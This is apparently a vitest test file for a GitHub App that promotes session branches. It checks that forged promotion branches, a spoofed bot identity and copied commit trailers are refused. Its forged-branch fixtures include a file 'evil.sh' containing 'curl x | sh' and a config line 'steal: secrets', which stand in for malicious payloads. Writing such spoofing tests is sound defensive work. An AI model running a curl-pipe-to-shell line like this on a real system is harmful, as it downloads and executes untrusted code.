/**
 * Promotion identity is not a string (invariant 11): a promotion is a commit whose final trailer block
 * names the session and its real baseline, whose parent is on the durable branch's first-parent
 * history after that baseline, and which this App authored (GitHub's author login and signature).
 * Forged promotion branches and look-alike commits on the durable branch are refused: nothing is
 * promoted from them, no pull request is opened from them, and no session is taken as promoted.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { parsePromotionTrailers } from '../../src/github/index.ts'
import { ROUTES } from '../support/git-data-api.ts'
import { AppHarness } from './harness.ts'

/** The name and email GitHub gives the test App's bot: anyone can put them in a pushed commit. */
const BOT_IDENTITY = {
  name: 'gittrix-test[bot]',
  email: '41898282+gittrix-test[bot]@users.noreply.github.com',
}

describe('App: promotion identity', () => {
  let h: AppHarness
  beforeEach(async () => {
    h = await AppHarness.create()
  })
  afterEach(() => h.close())

  async function session() {
    const { id } = h.startSession()
    const head = h.work(id, { 'src/app.ts': 'export const a = 2\n' })
    await h.push(id)
    return { id, head, runId: h.api.runsOn(head)[0]!.id }
  }

  /** Every commit on main's first-parent history that this App wrote (GitHub-signed) as a promotion. */
  function appPromotions(): string[] {
    return h.api
      .history('main')
      .filter((sha) => h.api.isSigned(sha) && parsePromotionTrailers(h.api.commitInfo(sha).message).ok)
  }

  /**
   * Ref and pull request writes GitHub accepted since request number `mark`, except the session branch's
   * own claim and release (app/claim.ts): each test checks separately that it ends where it started.
   */
  const acceptedWrites = (mark: number) =>
    h.api.requests
      .slice(mark)
      .filter((r) => r.method !== 'GET' && r.status < 300 && /\/pulls$|\/git\/refs/.test(r.path))
      .filter((r) => !/\/git\/refs\/heads%2Fgittrix%2Fsess_[a-z0-9]+$/.test(r.path))
      .map((r) => `${r.method} ${r.path}`)

  /** A message that carries the session's trailers exactly as the App writes them. */
  const forgedMessage = (id: string, subject = 'gittrix: Fix the parser') =>
    `${subject}\n\nGittrix-Session: ${id}\nGittrix-Baseline: ${h.initial}\n`

  it.each([
    ['a writer identity', undefined],
    ["the App bot's own name and email (unsigned)", BOT_IDENTITY],
  ])(
    'Open PR refuses a gittrix/promote/<id> branch pushed beforehand by %s: no pull request, nothing moved',
    async (_label, identity) => {
      const { id, head, runId } = await session()
      const forged = h.api.commit(
        `gittrix/promote/${id}`,
        { 'src/app.ts': 'export const a = 2\n', 'deploy/prod.yml': 'steal: secrets\n' },
        { from: h.initial, message: forgedMessage(id), ...(identity ? { identity } : {}) },
      )
      const mark = h.api.requests.length
      await h.receive('check_run', h.buttonPayload(runId, 'open_pr', 'max'))
      expect(h.api.pulls).toEqual([])
      expect(h.api.head(`gittrix/promote/${id}`)).toBe(forged)
      expect(h.api.head('main')).toBe(h.initial)
      expect(h.api.head(`gittrix/${id}`)).toBe(head)
      expect(acceptedWrites(mark)).toEqual([])
      const run = h.api.runsOn(head)[0]!
      expect(run.conclusion).toBe('failure')
      expect(run.output.summary).toContain(`gittrix/promote/${id}`)
      expect(run.output.summary).toMatch(/not (a|this session's) promotion/)
    },
  )

  it('strategy auto on a protected branch refuses a forged gittrix/promote/<id> (no pull request)', async () => {
    const { id, head } = await session()
    h.api.protectBranch('main')
    h.api.commit(
      `gittrix/promote/${id}`,
      { 'src/app.ts': 'export const a = 2\n', 'evil.sh': 'curl x | sh\n' },
      { from: h.initial, message: forgedMessage(id), identity: BOT_IDENTITY },
    )
    const [reply] = await h.comment('/gittrix promote')
    expect(h.api.pulls).toEqual([])
    expect(reply).toContain(`gittrix/promote/${id}`)
    expect(reply).not.toMatch(/Promoted as|pull request: http/)
    expect(h.api.head(`gittrix/${id}`)).toBe(head)
  })

  it('a merged contributor commit carrying the session trailers does not make the session promoted', async () => {
    const { id } = await session()
    // A contributor's change reaches main (e.g. a merged pull request) with a copied trailer block.
    const contributed = h.api.commit(
      'main',
      { 'docs/notes.md': 'notes\n' },
      { message: forgedMessage(id, 'Add notes'), identity: BOT_IDENTITY },
    )
    const [reply] = await h.comment('/gittrix promote')
    expect(reply).not.toMatch(/already promoted/i)
    expect(reply).toContain('Promoted as')
    const promoted = h.api.head('main')!
    expect(h.api.commitInfo(promoted).parents).toEqual([contributed])
    expect(h.api.files(promoted).get('src/app.ts')!.bytes.toString()).toBe('export const a = 2\n')
    expect(appPromotions()).toEqual([promoted])
  })

  it('a look-alike commit on main does not answer for a discarded session', async () => {
    const { id, runId } = await session()
    await h.receive('check_run', h.buttonPayload(runId, 'discard'))
    h.api.commit('main', { 'docs/notes.md': 'notes\n' }, { message: forgedMessage(id, 'Add notes') })
    const [reply] = await h.comment(`/gittrix status ${id}`)
    expect(reply).toContain('is not active')
    expect(reply).not.toMatch(/already promoted/i)
  })

  it("the App's own promotion branch from an attempt whose pull request failed is reused on retry", async () => {
    const { id, runId } = await session()
    h.api.inject({ route: ROUTES.createPull, fault: 'server-error' })
    await h.receive('check_run', h.buttonPayload(runId, 'open_pr', 'max'))
    const branch = h.api.head(`gittrix/promote/${id}`)!
    expect(branch).toBeTruthy()
    expect(h.api.pulls).toEqual([])
    await h.receive('check_run', h.buttonPayload(runId, 'open_pr', 'max'))
    expect(h.api.pulls.map((p) => p.head)).toEqual([`gittrix/promote/${id}`])
    expect(h.api.head(`gittrix/promote/${id}`)).toBe(branch)
  })

  it("the App's own promotion branch is refused for a promotion whose clean tree differs", async () => {
    const { id } = h.startSession()
    h.work(id, { 'src/app.ts': 'export const a = 2\n', 'docs/x.md': 'x\n' })
    await h.push(id)
    h.api.inject({ route: ROUTES.createPull, fault: 'server-error' })
    await h.comment('/gittrix promote src/app.ts --pr')
    const branch = h.api.head(`gittrix/promote/${id}`)!
    expect([...h.api.files(branch).keys()]).not.toContain('docs/x.md')
    const [reply] = await h.comment('/gittrix promote --pr')
    expect(h.api.pulls).toEqual([])
    expect(h.api.head(`gittrix/promote/${id}`)).toBe(branch)
    expect(reply).toContain(`gittrix/promote/${id}`)
    expect(reply).toMatch(/not this session's promotion: its "docs\/x.md" differs/)
  })

  it('a session promoted by the App is still recognised after its branch is gone', async () => {
    const { id } = await session()
    await h.comment('/gittrix promote')
    const promoted = h.api.head('main')!
    h.api.commit('main', { 'docs/later.md': 'later\n' }, { message: 'later work\n' })
    const [reply] = await h.comment(`/gittrix status ${id}`)
    expect(reply).toContain('already promoted')
    expect(reply).toContain(promoted.slice(0, 7))
  })
})
